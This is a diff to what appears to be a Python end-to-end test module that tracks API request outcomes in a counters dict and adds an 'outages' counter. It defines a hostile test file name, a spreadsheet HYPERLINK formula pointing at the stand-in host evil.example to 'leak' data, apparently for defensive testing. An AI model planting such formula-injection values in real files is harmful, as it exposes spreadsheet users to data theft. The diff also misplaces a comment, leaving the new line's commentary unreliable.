@@ -31,7 +31,8 @@ COUNTS = {
     "lost": 0,
     "hostile_requests": 0,  # request bodies and uploads built to break the API
     "server_errors": 0,  # ... of which answered 5xx (must stay 0)
-    "refused": 0,  # requests the local stack refused as AWS would (tests/e2e/test_local_enforcement.py)
+    "refused": 0,
+    "outages": 0,  # outages beyond every retry budget, reconciled (tests/e2e/test_reconcile.py)  # requests the local stack refused as AWS would (tests/e2e/test_local_enforcement.py)
 }
 NO_LABELS: dict[str, Any] = {"labels": []}  # for images label detection cannot read: nothing to keep
 CSV_FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","open me").png'
